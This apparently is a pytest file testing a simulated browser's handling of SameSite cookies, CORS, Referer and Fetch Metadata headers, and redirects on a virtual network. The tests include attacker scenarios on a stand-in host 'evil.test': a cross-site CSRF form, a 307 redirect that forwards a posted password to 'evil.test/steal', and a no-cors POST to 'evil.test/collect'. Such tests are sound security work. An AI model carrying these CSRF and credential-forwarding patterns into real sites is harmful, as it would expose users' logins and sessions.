"""The browser actor obeys the web's rules: sites, SameSite cookies, Origin,
Referer, Fetch Metadata and CORS, checked against small real WSGI apps on the
virtual network (the requests are recorded exchanges like any other)."""

from __future__ import annotations

import pytest
from flask import Flask, Response, jsonify, request

from playground.actors.browser import Browser, BrowserError
from playground.actors.cookies import CookieJar, RequestSite, parse_set_cookie
from playground.actors.cors import CorsError
from playground.actors.sites import fetch_site, origin_of, registrable_domain, site_of
from playground.wire.exchange import Party
from playground.wire.network import Host, Network
from playground.wire.transcript import Transcript

SHOP = "https://www.shop.test"
SHOP_API = "https://api.shop.test"  # same site as the shop, another origin
EVIL = "https://evil.test"


class FixedClock:
    def __init__(self, now: int = 1_800_000_000) -> None:
        self.moment = now

    def now(self) -> int:
        return self.moment


def shop_app() -> Flask:
    app = Flask("shop")

    @app.get("/set")
    def set_cookies() -> Response:
        response = Response("cookies set")
        response.set_cookie("strict", "s", samesite="Strict", secure=True)
        response.set_cookie("lax", "l", samesite="Lax", secure=True)
        response.set_cookie("none", "n", samesite="None", secure=True)
        response.set_cookie("unsaid", "u", secure=True)
        return response

    @app.route("/echo", methods=["GET", "POST", "PUT", "OPTIONS"])
    def echo() -> Response:
        return jsonify(dict(request.headers))

    @app.get("/page")
    def page() -> Response:
        html = (
            "<!doctype html><title>Shop</title>"
            '<form id="buy" method="post" action="https://www.shop.test/echo">'
            '<input name="item" value="prints"></form>'
            '<form id="login" method="post" action="/login">'
            '<input name="password" value=""></form>'
        )
        response = Response(html, mimetype="text/html")
        if request.args.get("policy"):
            response.headers["Referrer-Policy"] = request.args["policy"]
        return response

    @app.get("/moved")
    def moved() -> Response:
        return Response(status=307, headers={"Location": "/echo"})

    @app.post("/login")
    def login() -> Response:
        return Response(status=307, headers={"Location": "https://evil.test/steal"})

    return app


def api_app(
    allow: str | None, *, max_age: str | None = None, headers: str = "Authorization"
) -> Flask:
    app = Flask("api")

    @app.route("/data", methods=["GET", "PUT", "OPTIONS"])
    def data() -> Response:
        response = jsonify(method=request.method, cookie=request.headers.get("Cookie"))
        response.headers["WWW-Authenticate"] = 'Bearer realm="api"'
        response.headers["X-Secret"] = "hidden"
        if allow:
            response.headers["Access-Control-Allow-Origin"] = allow
            response.headers["Access-Control-Allow-Headers"] = headers
            response.headers["Access-Control-Allow-Methods"] = "GET, PUT"
            response.headers["Access-Control-Expose-Headers"] = "WWW-Authenticate"
            if max_age:
                response.headers["Access-Control-Max-Age"] = max_age
        if request.method == "OPTIONS":
            response.status_code = 204
        return response

    return app


def evil_app() -> Flask:
    app = Flask("evil")

    @app.get("/form")
    def form() -> Response:
        html = (
            '<!doctype html><title>Win</title><form id="csrf" method="post" '
            'action="https://www.shop.test/echo"><input name="item" value="x"></form>'
        )
        return Response(html, mimetype="text/html")

    @app.route("/<path:anything>", methods=["GET", "POST"])
    def anything(anything: str) -> Response:
        html = '<!doctype html><title>Evil</title><a href="x">x</a>'
        return Response(html, mimetype="text/html")

    return app


@pytest.fixture
def web() -> tuple[Browser, Transcript, FixedClock]:
    transcript = Transcript()
    network = Network(transcript)
    network.add_host(Host("www.shop.test", Party.CLIENT, shop_app()))
    network.add_host(Host("api.shop.test", Party.RESOURCE_SERVER, api_app(SHOP)))
    network.add_host(Host("evil.test", Party.ATTACKER, evil_app()))
    network.add_host(
        Host(
            "open.test", Party.RESOURCE_SERVER, api_app("*", max_age="600", headers="*")
        )
    )
    network.add_host(Host("closed.test", Party.RESOURCE_SERVER, api_app(None)))
    clock = FixedClock()
    return Browser(network, clock=clock), transcript, clock


def sent(transcript: Transcript, index: int = -1) -> dict[str, str]:
    request = transcript.exchanges[index].request
    return {name.lower(): value for name, value in request.headers}


def cookie_names(header: str | None) -> set[str]:
    return {pair.split("=")[0] for pair in (header or "").split("; ") if pair}


# -- sites ---------------------------------------------------------------------


def test_site_is_the_registrable_domain_from_the_public_suffix_list() -> None:
    assert registrable_domain("auth.photos.test") == "photos.test"
    assert registrable_domain("photoprint.test") == "photoprint.test"
    assert registrable_domain("a.b.example.co.uk") == "example.co.uk"
    assert registrable_domain("127.0.0.1") == "127.0.0.1"
    assert site_of("https://auth.photos.test/x") == site_of("https://api.photos.test")
    assert site_of("https://photos.test") != site_of("http://photos.test")  # scheme
    assert origin_of("https://api.shop.test:443/x?y") == "https://api.shop.test"
    assert fetch_site(SHOP, SHOP_API) == "same-site"
    assert fetch_site(EVIL, SHOP) == "cross-site"
    assert fetch_site(None, SHOP) == "none"


# -- cookies and SameSite ------------------------------------------------------


def test_typed_navigation_carries_every_cookie(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/set")
    browser.open(f"{SHOP}/echo")
    headers = sent(transcript)
    assert cookie_names(headers.get("cookie")) == {"strict", "lax", "none", "unsaid"}
    assert headers["sec-fetch-site"] == "none"
    assert "referer" not in headers


def test_link_from_another_site_carries_lax_but_not_strict(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/set")
    browser.open(f"{EVIL}/landing")
    browser.click(f"{SHOP}/echo")
    headers = sent(transcript)
    assert cookie_names(headers.get("cookie")) == {"lax", "none", "unsaid"}
    assert headers["sec-fetch-site"] == "cross-site"
    assert headers["sec-fetch-mode"] == "navigate"
    assert headers["referer"] == f"{EVIL}/"  # strict-origin-when-cross-origin
    assert "origin" not in headers  # a GET navigation sends no Origin


def test_cross_site_form_post_carries_only_samesite_none(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/set")
    browser.open(f"{EVIL}/form")
    browser.submit("csrf")
    headers = sent(transcript)
    assert cookie_names(headers.get("cookie")) == {"none"}
    assert headers["origin"] == EVIL


def test_same_site_fetch_from_another_origin_is_still_cors(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/page")
    response = browser.fetch(f"{SHOP_API}/data", headers={"Authorization": "Bearer t"})
    assert response is not None and response.status_code == 200
    preflight = transcript.exchanges[-2].request
    assert preflight.method == "OPTIONS"
    assert preflight.header("Access-Control-Request-Method") == "GET"
    assert preflight.header("Access-Control-Request-Headers") == "authorization"
    assert preflight.header("Authorization") is None
    actual = sent(transcript)
    assert actual["origin"] == SHOP
    assert actual["sec-fetch-site"] == "same-site"
    assert actual["sec-fetch-mode"] == "cors"
    # Only safelisted and exposed response headers reach the script.
    assert response.headers.get("WWW-Authenticate") == 'Bearer realm="api"'
    assert response.headers.get("X-Secret") is None


def test_cookie_expiry_is_judged_by_the_worlds_clock() -> None:
    jar = CookieJar()
    now = 1_800_000_000
    jar.store(f"{SHOP}/", ["id=1; Max-Age=60; Secure"], now)
    site = RequestSite(same_site=True, top_level_navigation=True)
    assert jar.header_for(f"{SHOP}/", "GET", site, now + 59) == "id=1"
    assert jar.header_for(f"{SHOP}/", "GET", site, now + 60) is None


def test_browser_refuses_cookies_no_browser_would_keep() -> None:
    assert parse_set_cookie(f"{SHOP}/", "a=1; Domain=evil.test", 0) is None
    assert parse_set_cookie("http://www.shop.test/", "a=1; Secure", 0) is None
    assert parse_set_cookie(f"{SHOP}/", "a=1; SameSite=None", 0) is None
    cookie = parse_set_cookie(f"{SHOP}/a/b", "a=1; Domain=.shop.test", 0)
    assert cookie is not None and not cookie.host_only and cookie.path == "/a"
    assert cookie.effective_same_site == "Lax"


# -- Referer ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("policy", "referer"),
    [
        ("", f"{SHOP}/"),  # the default: only the origin, cross-origin
        ("unsafe-url", f"{SHOP}/page?policy=unsafe-url&code=secret"),
        ("no-referrer", None),
        ("origin", f"{SHOP}/"),
    ],
)
def test_image_carries_the_referer_the_pages_policy_allows(web, policy, referer):
    browser, transcript, _ = web
    browser.open(f"{SHOP}/page?policy={policy}&code=secret")
    browser.load_image(f"{EVIL}/pixel.gif")
    headers = sent(transcript)
    assert headers.get("referer") == referer
    assert headers["sec-fetch-dest"] == "image"


# -- CORS ------------------------------------------------------------------------


def test_script_cannot_read_an_answer_without_allow_origin(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/page")
    with pytest.raises(CorsError, match="No 'Access-Control-Allow-Origin' header"):
        browser.fetch("https://closed.test/data")
    # A simple request is sent all the same: CORS guards reading, not sending.
    assert transcript.exchanges[-1].request.url == "https://closed.test/data"
    assert transcript.exchanges[-1].response.status == 200


def test_preflight_refusal_stops_the_request_before_it_leaves(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/page")
    count = len(transcript.exchanges)
    with pytest.raises(CorsError, match="Response to preflight request"):
        browser.fetch("https://closed.test/data", method="PUT")
    assert len(transcript.exchanges) == count + 1  # only the OPTIONS went out
    assert transcript.exchanges[-1].request.method == "OPTIONS"


def test_wildcard_never_covers_authorization_nor_credentials(web) -> None:
    browser, _, _ = web
    browser.open(f"{SHOP}/page")
    with pytest.raises(CorsError, match="must not be the wildcard"):
        browser.fetch("https://open.test/data", credentials="include")
    browser.fetch("https://open.test/data", headers={"X-Trace": "1"})  # covered
    with pytest.raises(CorsError, match="field authorization is not allowed"):
        browser.fetch("https://open.test/data", headers={"Authorization": "Bearer t"})


def test_preflight_is_cached_for_its_max_age_on_the_worlds_clock(web) -> None:
    browser, transcript, clock = web
    browser.open(f"{EVIL}/landing")
    methods = []
    for advance in (0, 599, 2):
        clock.moment += advance
        browser.fetch("https://open.test/data", method="PUT")
        methods.append([e.request.method for e in transcript.exchanges[-2:]])
    assert methods[0] == ["OPTIONS", "PUT"]
    assert methods[1] == ["PUT", "PUT"]  # within 600 s: no new preflight
    assert methods[2] == ["OPTIONS", "PUT"]


def test_no_cors_fetch_sends_and_reads_nothing(web) -> None:
    browser, transcript, _ = web
    browser.open(f"{SHOP}/page")
    assert (
        browser.fetch(f"{EVIL}/collect", method="POST", data={"x": "1"}, mode="no-cors")
        is None
    )
    assert transcript.exchanges[-1].request.form == {"x": "1"}
    with pytest.raises(CorsError, match="no-cors"):
        browser.fetch(f"{EVIL}/c", method="PUT", mode="no-cors")


# -- redirects ---------------------------------------------------------------------


def test_307_redirect_forwards_the_posted_form(web) -> None:
    """Fetch 4.4 / RFC 9700 4.12: a 307 keeps the method and the body."""
    browser, transcript, _ = web
    browser.open(f"{SHOP}/page")
    browser.submit("login", password="pw")
    assert browser.status == 307
    browser.follow_redirect()
    forwarded = transcript.exchanges[-1].request
    assert forwarded.method == "POST"
    assert forwarded.url == "https://evil.test/steal"
    assert forwarded.form == {"password": "pw"}


def test_following_a_non_redirect_names_what_is_on_screen(web) -> None:
    browser, _, _ = web
    browser.open(f"{SHOP}/page")
    with pytest.raises(BrowserError) as raised:
        browser.follow_redirect()
    assert str(raised.value) == (
        "There is no redirect to follow: the browser shows 'Shop' (200) at "
        "https://www.shop.test/page."
    )


def test_lax_cookie_set_in_answer_to_a_cross_site_image_is_not_kept(web) -> None:
    """RFC 6265bis, the storage model: a Lax (or Strict) cookie set in answer
    to a cross-site request that is not a top-level navigation is ignored."""
    browser, _, _ = web
    browser.open(f"{EVIL}/landing")
    browser.load_image(f"{SHOP}/set")
    assert browser.cookie_names() == ["none"]  # only SameSite=None survives
    browser.click(f"{SHOP}/set")  # a top-level navigation keeps them all
    assert browser.cookie_names() == ["lax", "none", "strict", "unsaid"]
